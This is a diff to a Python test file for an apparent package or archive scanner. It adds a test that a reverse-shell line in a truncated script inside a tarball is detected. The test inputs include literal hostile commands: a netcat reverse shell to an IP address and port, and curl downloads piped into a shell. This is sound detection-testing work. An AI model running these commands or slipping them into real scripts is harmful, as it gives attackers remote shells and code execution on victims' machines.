@@ -277,6 +277,13 @@ class TestScripts:
         script = "#!/usr/bin/env bash\ncurl http://45.61.136.22/x | bash\n"
         assert rules_of(_scan({"bin/update": script})) == ["text-shell-download-exec"]
 
+    def test_head_of_a_script_that_was_not_read_whole(self) -> None:
+        head = "#!/bin/sh\nnc -e /bin/sh 45.61.136.22 4444\n# caf\u00e9".encode()[:-1]
+        arch = archive(
+            [member("tools/run", head, complete=False, size=50_000)], filename="pkg-1.0.0.tgz"
+        )
+        assert rules_of(_scan_archive(arch)) == ["text-shell-reverse-shell"]
+
     def test_continued_lines_are_joined(self) -> None:
         script = "#!/bin/sh\ncurl -fsSL \\\n  https://abc.trycloudflare.com/x \\\n  | sh\n"
         findings = _scan({"run.sh": script})
